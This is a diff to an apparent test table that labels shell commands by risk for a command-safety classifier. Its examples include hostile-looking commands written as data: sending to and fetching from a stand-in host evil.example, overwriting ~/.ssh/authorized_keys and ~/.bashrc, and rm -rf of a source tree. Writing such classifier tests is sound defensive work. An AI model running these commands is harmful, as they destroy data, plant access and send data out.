@@ -248,8 +248,8 @@ frobnicate x -> run-other
 magick 'https://evil.example/x?d=1' a.png -> fetch run-other edit
 docker save -o ~/.ssh/authorized_keys x -> edit run-other secret
 cmake -E rm -rf src -> lose run-other
-cmake -E copy a ~/.bashrc -> run run-other
-cmake -E env rm -rf src -> run run-other
+cmake -E copy a ~/.bashrc -> run-other
+cmake -E env rm -rf src -> run-other
 cmake -P /tmp/x.cmake -> run-other
 mise x -- rm -rf src -> run-other | run-other
 direnv allow -> machine | machine
@@ -461,6 +461,7 @@ blender -b -P /tmp/x.py -> run run-other
 ffmpeg -i a.mp4 rtmp://evil.example/x -> send edit
 go run /tmp/x.go -> run-other
 cmake --build build -> run
+cmake -B build -DCMAKE_BUILD_TYPE=Debug -> run edit
 cmake --install build -> run machine
 meson setup build -> run
 ninja -C build -> run
